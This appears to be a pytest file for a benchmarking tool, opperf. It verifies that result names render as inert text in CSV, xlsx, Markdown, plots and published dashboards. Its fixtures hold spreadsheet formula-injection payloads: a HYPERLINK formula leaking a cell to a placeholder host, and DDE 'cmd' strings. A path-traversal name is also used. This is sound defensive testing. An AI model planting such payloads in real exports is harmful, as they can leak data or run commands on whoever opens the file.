"""Names, inputs and reasons from result files are data in every rendering: text, never formulas, in
spreadsheets (``opperf.utils.cells``: CSV and xlsx, of sweeps and of diffs); one cell in a Markdown
table; text, never mathtext, in plots; a page of a safe name in a published dashboard."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from opperf.cli import main
from opperf.report.csv_report import render_csv
from opperf.report.xlsx import workbook_bytes
from opperf.report.xlsx_tables import results_tables
from opperf.utils.cells import FORMULA_STARTS, inert_csv_cell, reads_as_formula

GOLDEN = Path(__file__).parent / "golden" / "results_v1.json"
HOSTILE_NAMES = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
)


def _hostile_document() -> dict:
    """The golden results file, its operators renamed to formulas and its reasons starting with one;
    an operator name with a bell character a workbook cannot hold."""
    document = json.loads(GOLDEN.read_text())
    for index, record in enumerate(document["results"]):
        record["op"] = HOSTILE_NAMES[index % len(HOSTILE_NAMES)]
        record["function"] = f"mx.nd.{record['op']}"
        if record["reason"] is not None:
            record["reason"] = "=1+1 " + record["reason"]
    document["results"][-1]["op"] = "bell\x07name"
    return document


def test_the_rule_matches_spreadsheet_guidance():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert reads_as_formula(f"{start}x") and inert_csv_cell(f"{start}x") == f"'{start}x"
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}
    for value in (-1.5, -3, 0, True, None, "exp", "data=4x4", "x=-1"):
        assert inert_csv_cell(value) == value


def test_sweep_csv_neutralises_formulas_and_keeps_numbers_numbers():
    document = _hostile_document()
    rows = list(csv.DictReader(io.StringIO(render_csv(document))))
    assert len(rows) == len(document["results"])
    for row in rows:
        for value in row.values():
            assert not reads_as_formula(value), value
    assert rows[0]["op"] == "'" + HOSTILE_NAMES[0]
    assert rows[2]["op"] == "'-2+3"
    medians = [row["forward_median_s"] for row in rows if row["forward_median_s"]]
    assert medians and all(float(m) > 0 for m in medians)


def _cells(data: bytes):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_sweep_workbook_holds_names_as_text():
    cells = _cells(workbook_bytes(results_tables(_hostile_document())))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    named = [cell for cell in cells if cell.value == HOSTILE_NAMES[0]]
    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
    assert any(cell.value == "bell\ufffdname" for cell in cells)
    assert any(cell.data_type == "n" and isinstance(cell.value, float) for cell in cells)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_diff_of_hostile_files_is_inert(tmp_path, extension):
    """``opperf diff``'s spreadsheets of two result files whose names are formulas."""
    pytest.importorskip("openpyxl")
    base, new = tmp_path / "base.json", tmp_path / "new.json"
    document = _hostile_document()
    base.write_text(json.dumps(document))
    slower = copy.deepcopy(document)
    for record in slower["results"]:
        for phase in ("forward", "backward"):
            if record[phase]:
                record[phase]["samples_s"] = [s * 2 for s in record[phase]["samples_s"]]
                record[phase]["median_s"] *= 2
    new.write_text(json.dumps(slower))
    output = tmp_path / f"diff.{extension}"
    assert main(["diff", str(base), str(new), "--output-file", str(output)]) in (0, 1)
    if extension == "csv":
        rows = list(csv.DictReader(io.StringIO(output.read_text())))
        assert rows and all(not reads_as_formula(v) for row in rows for v in row.values())
        assert {row["op"] for row in rows} >= {"'" + HOSTILE_NAMES[1]}
        assert all(float(row["ratio"]) > 0 for row in rows if row["ratio"])
        return
    cells = _cells(output.read_bytes())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == HOSTILE_NAMES[1] and cell.quotePrefix for cell in cells)


def test_markdown_tables_keep_one_row_per_record():
    from opperf.report.markdown import render_markdown

    document = _hostile_document()
    document["results"][1]["op"] = "split|me\ninto rows"
    document["results"][1]["function"] = "mx.nd.split|me\ninto rows"
    text = render_markdown(document)
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert any("split\\|me into rows" in row for row in rows)
    tables = text.split("\n\n")
    for table in (t for t in tables if t.startswith("|")):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert len(widths) == 1, table  # every line of a table has as many cells as its header


def test_html_report_of_names_with_dollar_signs_renders(tmp_path):
    pytest.importorskip("matplotlib")
    document = json.loads(GOLDEN.read_text())
    for record in document["results"]:
        record["op"] = "$\\frac{a$" if record["status"] == "ok" else "$x^$"
        record["function"] = f"mx.nd.{record['op']}"
    results, page = tmp_path / "r.json", tmp_path / "r.html"
    results.write_text(json.dumps(document))
    assert main(["report", str(results), "--html", str(page)]) == 0
    assert "frac{a$" in page.read_text()


def test_html_report_of_names_in_scripts_the_plot_font_lacks_says_nothing_of_it(tmp_path, recwarn):
    """Operator names in CJK or emoji printed matplotlib's missing-glyph warnings, with opperf's source
    lines, beside the report (the page's browser draws them: plot labels stay text)."""
    pytest.importorskip("matplotlib")
    document = json.loads(GOLDEN.read_text())
    for index, record in enumerate(document["results"]):
        record["op"] = f"\u7b97\u5b50_{index}\U0001f680"
        record["function"] = f"mx.nd.{record['op']}"
    results, page = tmp_path / "r.json", tmp_path / "r.html"
    results.write_text(json.dumps(document))
    assert main(["report", str(results), "--html", str(page)]) == 0
    assert "\u7b97\u5b50_0" in page.read_text(encoding="utf-8")
    assert not [str(w.message) for w in recwarn if "Glyph" in str(w.message)]


def _store(tmp_path, names: list[str]) -> Path:
    """A history store of one run whose records carry ``names``."""
    document = json.loads(GOLDEN.read_text())
    template = next(r for r in document["results"] if r["status"] == "ok")
    document["results"] = [{**template, "op": name} for name in names]
    results, store = tmp_path / f"run{len(names)}.json", tmp_path / f"h{len(names)}.sqlite"
    results.write_text(json.dumps(document))
    assert main(["history", "add", str(results), "--db", str(store)]) == 0
    return store


def _links_resolve(site: Path) -> list[str]:
    """Every page's local links that name no file of the site."""
    broken = []
    for page in site.rglob("*.html"):
        for link in re.findall(r'href="([^"#?]+)"', page.read_text()):
            if "://" not in link and not (page.parent / link).exists():
                broken.append(f"{page.name} -> {link}")
    return broken


def test_publish_of_hostile_names_writes_pages_within_the_folder(tmp_path):
    names = ["a" * 300, "../../escape", "x|y\nz", "$\\frac{a$", ".hidden", "a/b", "a_b"]
    site = tmp_path / "site"
    assert main(["publish", "--db", str(_store(tmp_path, names)), "--out", str(site)]) == 0
    pages = sorted(p.relative_to(site).as_posix() for p in (site / "ops").iterdir())
    assert len(pages) == len(names)  # "a/b" and "a_b" read alike but get pages of their own
    assert all(len(p) < 150 and not p.startswith("ops/.") for p in pages)
    assert not _links_resolve(site)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["site", *(p.name for p in tmp_path.glob("*.*"))]
    )


def test_a_publish_that_cannot_finish_leaves_the_previous_dashboard_whole(tmp_path):
    """A full disk part way: the pages were written into the folder itself, so its index linked to
    pages never written. Now the previous dashboard stays as it was, and nothing is left beside it."""
    from test_output_faults import small_disk

    small, large = _store(tmp_path, ["exp", "log"]), _store(tmp_path, [f"op{i}" for i in range(400)])
    with small_disk(tmp_path, "200k") as disk:
        site = disk / "site"
        assert main(["publish", "--db", str(small), "--out", str(site)]) == 0
        before = {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()}
        assert main(["publish", "--db", str(large), "--out", str(site)]) == 2
        after = {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()}
        assert after == before and not _links_resolve(site)
        assert [p.name for p in disk.iterdir()] == ["site"]
        assert os.access(site, os.R_OK | os.X_OK)


@pytest.mark.parametrize(
    "held", [["mine.txt"], ["notes/a.txt"], ["history.sqlite", "mine.txt"], ["index.html", "ops/mine.txt"]]
)
def test_a_publish_into_a_folder_of_other_files_is_refused_and_touches_none(tmp_path, capsys, held):
    """``publish --out .`` moved the folder aside and removed it, the history database and the user's
    files with it, and exited 0. A folder that holds anything but an earlier dashboard is refused."""
    store = _store(tmp_path, ["exp"])
    capsys.readouterr()
    site = tmp_path / "site"
    for name in held:
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text("mine")
    assert main(["publish", "--db", str(store), "--out", str(site)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {site} holds files of its own (") and err.count("\n") == 1
    assert sorted(str(p.relative_to(site)) for p in site.rglob("*") if p.is_file()) == sorted(held)
    empty = tmp_path / "empty"
    empty.mkdir()
    for out in (empty, empty, tmp_path / "new"):  # an empty folder, then the dashboard it became, then none
        assert main(["publish", "--db", str(store), "--out", str(out)]) == 0
        assert (out / "index.html").is_file()
        (out / ".DS_Store").write_bytes(b"\0")  # a file browser opened it: no file of the user's
